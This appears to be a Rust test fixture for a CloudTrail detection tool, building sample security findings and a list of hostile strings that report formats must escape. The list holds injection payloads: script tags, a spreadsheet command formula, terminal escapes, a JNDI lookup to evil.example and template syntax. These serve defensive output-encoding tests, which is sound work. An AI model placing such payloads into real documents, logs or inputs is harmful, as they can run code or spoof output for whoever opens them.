//! A report with everything in it that has ever broken a report.

use trailwarden_model::attack::Attack;
use trailwarden_model::finding::{
    Authorized, Effect, Evidence, Kind, Party, PathOpened, PrincipalEffect, Reach, SCHEMA, Status,
    finding_id,
};
use trailwarden_model::{
    Confidence, Finding, Off, Outcome, Reject, Report, Severity, Summary, Timestamp, report,
};

/// Text that each format must disarm in its own way.
pub(crate) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "=cmd|'/C calc'!A0",
    "\u{1b}[31mred\u{1b}]0;title\u{7}",
    "\u{9b}31mC1",
    "evil\u{202e}nimda",
    "line one\nline two\r\n# heading",
    "a|b`c``d",
    "]]>",
    "@octocat see https://evil.example/#1",
    "![x](https://evil.example/x.png)",
    "\u{0}null",
    "${jndi:ldap://evil.example}",
    "{{ 7 * 7 }}",
    "\"quoted' & <b>",
    "Zoë-管理者",
];

fn off(rule: &str, reason: &str) -> Off {
    Off { rule: rule.to_owned(), reason: reason.to_owned() }
}

fn at(text: &str) -> Timestamp {
    text.parse().unwrap()
}

fn evidence(number: u64, name: &str, time: &str) -> Evidence {
    Evidence {
        event_id: format!("5f0e{number:04}-c98a-4c65-9b6e-e22506292313"),
        event_name: name.to_owned(),
        event_source: "iam.amazonaws.com".to_owned(),
        event_time: at(time),
        account: Some("111122223333".to_owned()),
        file: "logs/111122223333_CloudTrail_us-east-1_20260301T2300Z.json.gz".to_owned(),
        record: number,
    }
}

/// A finding that nobody tampered with.
pub(crate) fn plain_finding() -> Finding {
    let rule = "access-key-for-another-user";
    let records = vec![
        evidence(1, "CreateAccessKey", "2026-03-01T22:58:07Z"),
        evidence(2, "CreateAccessKey", "2026-03-01T22:58:31Z"),
    ];
    Finding {
        schema: SCHEMA.to_owned(),
        id: finding_id(rule, "111122223333", "user/alice", &records[0].event_id),
        rule: rule.to_owned(),
        title: "Access key created for another user".to_owned(),
        risk: "Whoever holds the key acts as that user, from anywhere, until it is revoked."
            .to_owned(),
        explanation: "mallory created two access keys for alice, a user other than himself. The \
                      keys work from anywhere and outlive his own session."
            .to_owned(),
        supersedes: Vec::new(),
        kind: Kind::Detection,
        severity: Severity::High,
        confidence: Confidence::Medium,
        status: Status::Open,
        outcome: Some(Outcome::Succeeded),
        account: Some("111122223333".to_owned()),
        region: Some("us-east-1".to_owned()),
        first_time: records[0].event_time,
        last_time: records[1].event_time,
        actor: Party {
            kind: Some("user".to_owned()),
            arn: Some("arn:aws:iam::111122223333:user/mallory".to_owned()),
            id: Some("AIDAEXAMPLEMALLORY".to_owned()),
            name: Some("mallory".to_owned()),
            account: Some("111122223333".to_owned()),
            session: None,
            access_key: Some("AKIAIOSFODNN7EXAMPLE".to_owned()),
            address: Some("198.51.100.7".to_owned()),
        },
        target: Party {
            kind: Some("user".to_owned()),
            arn: Some("arn:aws:iam::111122223333:user/alice".to_owned()),
            name: Some("alice".to_owned()),
            account: Some("111122223333".to_owned()),
            ..Party::default()
        },
        evidence_total: records.len() as u64,
        evidence: records,
        effect: None,
        authorized: Authorized::default(),
        attack: vec![Attack::of("T1098.001")],
        false_positives: vec!["Joiner automation: suppress it for its role.".to_owned()],
        remediation: vec!["deactivate-access-key".to_owned()],
    }
}

/// A finding in which every part that a stranger controls is hostile.
fn hostile_finding() -> Finding {
    let all = HOSTILE.join(" ");
    let mut record = evidence(7, HOSTILE[0], "2026-03-02T09:15:00Z");
    record.event_id = HOSTILE[7].to_owned();
    record.event_source = HOSTILE[14].to_owned();
    record.file = format!("logs/{all}.json");
    Finding {
        id: finding_id("trust-policy", "unknown", &all, "e7"),
        rule: "trust-policy-opened-to-the-world".to_owned(),
        title: format!("Role trusts everybody {}", HOSTILE[0]),
        risk: "Anybody with an AWS account can become this role.".to_owned(),
        explanation: format!(
            "Somebody changed the trust of {all} so that everybody may assume it."
        ),
        severity: Severity::Critical,
        account: None,
        region: None,
        first_time: record.event_time,
        last_time: record.event_time,
        actor: Party {
            kind: Some("role".to_owned()),
            arn: Some(all.clone()),
            name: Some(HOSTILE[2].to_owned()),
            session: Some(format!("arn:aws:sts::111122223333:assumed-role/ops/{}", HOSTILE[3])),
            address: Some(HOSTILE[13].to_owned()),
            ..Party::default()
        },
        target: Party {
            kind: Some("role".to_owned()),
            name: Some(format!("{} {}", HOSTILE[5], "very-long-name-".repeat(40))),
            account: Some("444455556666".to_owned()),
            ..Party::default()
        },
        evidence: vec![record],
        evidence_total: 1,
        attack: vec![Attack::of("T1098")],
        false_positives: HOSTILE.iter().map(|text| (*text).to_owned()).collect(),
        ..plain_finding()
    }
}

fn denied_finding() -> Finding {
    Finding {
        id: finding_id("admin-policy-attached", "111122223333", "user/mallory", "e3"),
        rule: "admin-policy-attached".to_owned(),
        title: "Administrator policy attached".to_owned(),
        risk: "The holder can do everything in the account.".to_owned(),
        explanation: "mallory tried to attach AdministratorAccess to himself and was refused."
            .to_owned(),
        severity: Severity::Medium,
        confidence: Confidence::High,
        outcome: Some(Outcome::Denied),
        first_time: at("2026-03-01T22:40:00Z"),
        last_time: at("2026-03-01T22:52:10Z"),
        evidence: vec![evidence(3, "AttachUserPolicy", "2026-03-01T22:40:00Z")],
        evidence_total: 120,
        effect: Some(Effect {
            principals: vec![PrincipalEffect {
                arn: "arn:aws:iam::111122223333:user/mallory".to_owned(),
                grade_before: "read".to_owned(),
                grade_after: "admin".to_owned(),
                gained: vec!["iam:*".to_owned(), "s3:*".to_owned()],
                ..PrincipalEffect::default()
            }],
            paths_opened: vec![PathOpened {
                technique: "attach-user-policy".to_owned(),
                from: "mallory".to_owned(),
                to: "admin".to_owned(),
                conditions: Vec::new(),
            }],
            reach: Reach { principals: 1, accounts: 1 },
            unknowns: vec!["the boundary of mallory".to_owned()],
        }),
        authorized: Authorized::forbidden("no-self-service"),
        attack: vec![Attack::of("T1098.003"), Attack::of("T9999")],
        ..plain_finding()
    }
}

fn sigma_finding() -> Finding {
    Finding {
        id: finding_id("sigma", "111122223333", "root", "e4"),
        rule: "8ad1600d-e9dc-4251-b0ee-a65268f29add".to_owned(),
        title: "AWS Root Credentials".to_owned(),
        risk: "The root user has no limits.".to_owned(),
        explanation: "The root user called ConsoleLogin.".to_owned(),
        kind: Kind::Sigma,
        severity: Severity::Low,
        status: Status::Suppressed,
        actor: Party { kind: Some("root".to_owned()), ..Party::default() },
        target: Party::default(),
        first_time: at("2026-03-03T04:00:00Z"),
        last_time: at("2026-03-03T04:00:00Z"),
        evidence: vec![evidence(4, "ConsoleLogin", "2026-03-03T04:00:00Z")],
        evidence_total: 1,
        attack: Vec::new(),
        false_positives: Vec::new(),
        remediation: Vec::new(),
        ..plain_finding()
    }
}

fn health_finding() -> Finding {
    Finding {
        id: finding_id("health", "", "first-seen-region", "e5"),
        rule: "first-seen-region".to_owned(),
        title: "A detection stopped working".to_owned(),
        risk: "What it looks for was not looked for after this record.".to_owned(),
        explanation: "The detection first-seen-region panicked and was switched off.".to_owned(),
        kind: Kind::Health,
        severity: Severity::Info,
        outcome: None,
        account: None,
        region: None,
        actor: Party::default(),
        target: Party::default(),
        evidence: Vec::new(),
        evidence_total: 0,
        attack: Vec::new(),
        false_positives: Vec::new(),
        remediation: Vec::new(),
        ..plain_finding()
    }
}

/// Five findings, rejects, detections that were off, and hostile text in every place for text.
pub(crate) fn sample_report() -> Report {
    let mut report = tame_report();
    report.findings.insert(0, hostile_finding());
    for (number, text) in (0..).zip(HOSTILE) {
        report.rejects.push(Reject {
            file: format!("logs/{text}"),
            offset: Some(number * 100),
            record: None,
            cause: format!("not JSON: {text}"),
        });
        report.summary.off.push(Off {
            rule: format!("sigma {text}"),
            reason: format!("unknown modifier `{text}`"),
        });
        report.summary.accounts.push((*text).to_owned());
    }
    report.summary.rejects = 40;
    report
}

/// The same without the hostile parts, for snapshots that people read.
pub(crate) fn tame_report() -> Report {
    let findings = vec![plain_finding(), denied_finding(), sigma_finding(), health_finding()];
    Report {
        schema: report::SCHEMA.to_owned(),
        findings,
        rejects: vec![
            Reject {
                file: "logs/truncated.json.gz".to_owned(),
                offset: Some(81_920),
                record: Some(212),
                cause: "the file ends inside a record; fetch it again".to_owned(),
            },
            Reject {
                file: "-".to_owned(),
                offset: None,
                record: None,
                cause: "not gzip, zstd or JSON".to_owned(),
            },
        ],
        summary: Summary {
            baselines: Vec::new(),
            integrity: None,
            change_policies: None,
            files: 35,
            bytes_stored: 1_250_000,
            bytes_inflated: 14_900_000,
            records: 12_345,
            duplicates: 12,
            filtered: 0,
            rejects: 14,
            skipped_files: 3,
            accounts: vec!["111122223333".to_owned(), "444455556666".to_owned()],
            first_time: Some(at("2026-03-01T20:00:00Z")),
            last_time: Some(at("2026-03-03T06:00:00Z")),
            by_severity: [("info", 1), ("low", 1), ("medium", 1), ("high", 1)]
                .into_iter()
                .map(|(severity, number)| (severity.to_owned(), number))
                .collect(),
            off: vec![
                off("first-seen-region", "needs 14 days of logs, has seen 2"),
                off("first-seen-service", "needs 14 days of logs, has seen 2"),
                off("login-from-two-countries", "needs `--geoip FILE`"),
            ],
            interrupted: false,
        },
    }
}
